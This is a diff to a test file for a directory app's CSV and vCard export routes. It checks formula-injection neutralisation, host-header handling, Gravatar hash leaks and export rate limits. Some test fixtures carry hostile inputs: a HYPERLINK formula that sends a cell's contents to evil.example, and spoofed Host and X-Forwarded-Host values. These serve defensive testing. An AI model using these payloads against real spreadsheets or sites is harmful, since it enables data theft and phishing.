@@ -2,10 +2,12 @@
 // and /export/people.vcf follow the directory's own query (the same parser as the page and
 // /api/people), refuse bad input with a 400 and anonymous viewers in the closed modes, and carry
 // only what the page shows: a real address Zulip hides from members is in no file.
+import { createHash } from 'node:crypto';
 import { NextRequest } from 'next/server';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { DemoUser } from '@/lib/demo-zulip/types';
 import type { PeoplePage, Person } from '@/lib/directory/types';
+import { exportSlots } from '@/lib/access/export-limits';
 import { proxy } from '@/proxy';
 import { reportPresence } from '../integration/support';
 import { startTestDirectory, until, withEnv, type TestDirectory } from '../support/directory';
@@ -18,7 +20,7 @@ const COLUMNS = ['Name', 'Title', 'Department', 'Office', 'Managers', 'Email', '
 type Handler = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;
 
 /** Calls the route handler for an address, as Next would. */
-async function get(path: string, headers: Record<string, string> = {}): Promise<Response> {
+async function get(path: string, headers: Record<string, string> = {}, signal?: AbortSignal): Promise<Response> {
   const url = new URL(path, ORIGIN);
   const person = /^\/people\/([^/]+)\/vcard$/.exec(url.pathname);
   const mod = (await (url.pathname === '/export/people.csv'
@@ -27,7 +29,7 @@ async function get(path: string, headers: Record<string, string> = {}): Promise<
       ? import('@/app/export/people.vcf/route')
       : import('@/app/people/[ref]/vcard/route'))) as unknown as { GET: Handler };
   const params: Record<string, string> = person ? { ref: decodeURIComponent(person[1]!) } : {};
-  return mod.GET(new NextRequest(url, { headers }), { params: Promise.resolve(params) });
+  return mod.GET(new NextRequest(url, { headers, signal }), { params: Promise.resolve(params) });
 }
 
 async function people(search: string): Promise<PeoplePage> {
@@ -88,7 +90,7 @@ describe('/export/people.csv', () => {
       expect(res.headers.get('cache-control')).toBe('no-store');
       const org = dir.runtime.view.org.name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
       expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${org}-directory-${today()}.csv"`);
-      expect(text.slice(1, text.indexOf('\r\n'))).toBe(COLUMNS.join(','));
+      expect(text.slice(1, text.indexOf('\r\n'))).toBe(COLUMNS.map((c) => `"${c}"`).join(','));
     });
   });
 
@@ -174,17 +176,19 @@ describe('/export/people.csv', () => {
     });
   });
 
-  it('neutralises cells a spreadsheet would run as formulas, and keeps line breaks and quotes inside their cell', async () => {
+  it('neutralises cells a spreadsheet would run as formulas, also after a separator, and quotes every cell', async () => {
     await withEnv(OPEN, async () => {
       const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
-      await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.department]: '-2+3' } });
+      await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.department]: 'Engineer;-2+3' } });
       try {
         await until(() => dir.runtime.view.people.get(shown.user_id)?.title === formula, 'the profile update');
         const { rows, text } = await csv('?q=SUM');
         expect(rows).toHaveLength(1);
-        expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Department: "'-2+3" });
-        // No cell of the file starts with a formula character.
-        for (const row of csvObjects(text.slice(1))) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+        expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Department: "Engineer;'-2+3" });
+        // Split on any separator a spreadsheet may use (docs/architecture.md §15), no piece of any cell starts a formula.
+        for (const row of csvObjects(text.slice(1))) for (const cell of Object.values(row)) for (const piece of cell.split(/[,;\t|\r\n]/)) expect(piece).not.toMatch(/^ *[=+\-@]/);
+        // Every cell is quoted: each record is "…","…",…
+        for (const line of text.slice(1).split('\r\n').filter(Boolean)) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
       } finally {
         await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: 'Shown Everyone', profile_data: { [fields.title]: null, [fields.department]: null } });
         await until(() => dir.runtime.view.people.get(shown.user_id)?.name === 'Shown Everyone', 'the name back');
@@ -200,11 +204,28 @@ describe('/export/people.csv', () => {
     });
     await withEnv(OPEN, async () => {
       expect(await firstUrl({ host: 'people.example.org:8080' })).toMatch(/^http:\/\/people\.example\.org:8080\/people\/\d+$/);
-      expect(await firstUrl({ host: '127.0.0.1:3000', 'x-forwarded-host': 'dir.example.org', 'x-forwarded-proto': 'https' })).toMatch(/^https:\/\/dir\.example\.org\/people\/\d+$/);
+      // X-Forwarded-Host is what any client may write: not followed unless proxies are trusted (below).
+      expect(await firstUrl({ host: 'people.example.org', 'x-forwarded-host': 'evil.example' })).toMatch(/^http:\/\/people\.example\.org\/people\/\d+$/);
       // A host that is not only a host is not an origin: the request's own address is used.
       expect(await firstUrl({ host: 'evil.example/phish?' })).toMatch(/^http:\/\/directory\.test\/people\/\d+$/);
       expect(await firstUrl({ host: 'example.org:80' })).toMatch(/^http:\/\/example\.org\/people\/\d+$/);
       expect(await firstUrl({ host: 'user@evil.example' })).toMatch(/^http:\/\/directory\.test\/people\/\d+$/);
+    });
+    await withEnv({ ...OPEN, DIRECTORY_TRUSTED_PROXY_HOPS: '1' }, async () => {
+      // A proxy of ours is in front: the value it set (the last) is the host the viewer opened.
+      const forwarded = { host: '127.0.0.1:3000', 'x-forwarded-host': 'evil.example, dir.example.org', 'x-forwarded-proto': 'https' };
+      expect(await firstUrl(forwarded)).toMatch(/^https:\/\/dir\.example\.org\/people\/\d+$/);
+    });
+  });
+
+  it('builds every absolute address of the vCard routes the same way, never from a client’s X-Forwarded-Host', async () => {
+    await withEnv(OPEN, async () => {
+      const headers = { host: 'people.example.org', 'x-forwarded-host': 'evil.example' };
+      for (const path of ['/export/people.vcf?sort=name', `/people/${shown.user_id}/vcard`]) {
+        const text = await (await get(path, headers)).text();
+        expect(text, path).toContain(`URL:http://people.example.org/people/`);
+        expect(text, path).not.toContain('evil.example');
+      }
     });
   });
 });
@@ -286,6 +307,26 @@ describe('what no export carries', () => {
     });
   });
 
+  it('has no Gravatar URL made from a hidden address, in the API, the files or the cards (the page shows initials)', async () => {
+    await withEnv(OPEN, async () => {
+      const md5 = (email: string) => createHash('md5').update(email.toLowerCase()).digest('hex');
+      // Zulip sends everyone's Gravatar URL, the hidden ones' too (the bot reads it: docs/zulip.md §f).
+      const shownPerson = dir.runtime.view.people.get(shown.user_id)!;
+      expect(shownPerson.avatarUrl).toContain(`https://secure.gravatar.com/avatar/${md5(shown.delivery_email)}`);
+      const listed = (await people('?q=Hidden')).items;
+      expect(listed.map((p) => p.id).sort()).toEqual(hidden.map((u) => u.user_id).sort());
+      const texts = [JSON.stringify(listed), (await vcf('/export/people.vcf')).text, (await csv('')).text];
+      for (const user of hidden) {
+        expect(dir.runtime.view.people.get(user.user_id)!.avatarUrl).toBeNull();
+        expect(listed.find((p) => p.id === user.user_id)!.avatarUrl).toBeNull();
+        const card = await vcf(`/people/${user.user_id}/vcard`);
+        expect(card.cards[0]!.has('PHOTO')).toBe(false);
+        for (const text of [...texts, card.text]) expect(text).not.toContain(md5(user.delivery_email));
+      }
+      expect((await vcf(`/people/${shown.user_id}/vcard`)).cards[0]!.get('PHOTO')![0]).toBe(shownPerson.avatarUrl);
+    });
+  });
+
   it('answers a bad query with a 400 naming the problem, as /api/people does', async () => {
     await withEnv(OPEN, async () => {
       for (const path of ['/export/people.csv', '/export/people.vcf']) {
@@ -338,6 +379,62 @@ describe('who may export', () => {
       expect((await get(`/people/${shown.user_id}/vcard`, as(shown.delivery_email))).status).toBe(200);
       expect((await get('/export/people.vcf', as(shown.delivery_email, 'wrong-secret'))).status).toBe(401);
       expect((await get('/export/people.csv', as('stranger@example.com'))).status).toBe(403);
+    });
+  });
+});
+
+describe('how many exports at once, and for how long', () => {
+  const refusedWith = async (res: Response, code: string) => {
+    expect(res.status).toBe(429);
+    expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
+    expect(await res.json()).toEqual({ error: { code, message: expect.any(String) } });
+  };
+
+  it('serves DIRECTORY_EXPORTS_MAX at once in all, and a 429 with Retry-After beyond, until one ends', async () => {
+    await withEnv({ ...OPEN, DIRECTORY_EXPORTS_MAX: '2' }, async () => {
+      const [a, b] = [await get('/export/people.csv'), await get('/export/people.vcf?sort=name')];
+      expect([a.status, b.status]).toEqual([200, 200]);
+      expect(exportSlots().size).toBe(2);
+      await refusedWith(await get('/export/people.csv?q=a'), 'server_busy');
+      await refusedWith(await get('/export/people.vcf'), 'server_busy');
+      // One read to the end, one given up: both slots are free again.
+      await a.text();
+      await b.body!.cancel();
+      expect(exportSlots().size).toBe(0);
+      expect((await csv('?q=a')).rows.length).toBeGreaterThan(0);
+    });
+  });
+
+  it('serves one viewer DIRECTORY_EXPORTS_PER_VIEWER at once, and others beside them', async () => {
+    await withEnv({ ...OPEN, DIRECTORY_ACCESS: 'proxy', DIRECTORY_PROXY_SECRET: SECRET, DIRECTORY_EXPORTS_PER_VIEWER: '1' }, async () => {
+      const as = (user: DemoUser) => ({ 'x-forwarded-email': user.delivery_email, 'x-directory-proxy-secret': SECRET });
+      const other = hidden[0]!;
+      const first = await get('/export/people.vcf', as(shown));
+      expect(first.status).toBe(200);
+      await refusedWith(await get('/export/people.csv', as(shown)), 'too_many_exports');
+      const theirs = await get('/export/people.csv', as(other));
+      expect(theirs.status).toBe(200);
+      await Promise.all([first.text(), theirs.text()]);
+      expect(exportSlots().size).toBe(0);
+    });
+  });
+
+  it('frees the slot of a client that hangs up, and ends a download that outlasts DIRECTORY_EXPORT_MAX_SECONDS', async () => {
+    await withEnv({ ...OPEN, DIRECTORY_EXPORTS_MAX: '1', DIRECTORY_EXPORT_MAX_SECONDS: '1' }, async () => {
+      const leaving = new AbortController();
+      expect((await get('/export/people.vcf', {}, leaving.signal)).status).toBe(200);
+      expect(exportSlots().size).toBe(1);
+      leaving.abort();
+      expect(exportSlots().size).toBe(0);
+
+      // A client that takes one chunk and never reads again: cut off, and the slot is free.
+      const stalled = await get('/export/people.csv?sort=name');
+      const reader = stalled.body!.getReader();
+      await reader.read();
+      await refusedWith(await get('/export/people.csv'), 'server_busy');
+      await until(() => exportSlots().size === 0, 'the slow download ended', 3_000);
+      await expect(reader.read()).rejects.toThrow(/longer than the directory allows/);
+      expect((await get('/export/people.csv')).status).toBe(200);
     });
   });
 });
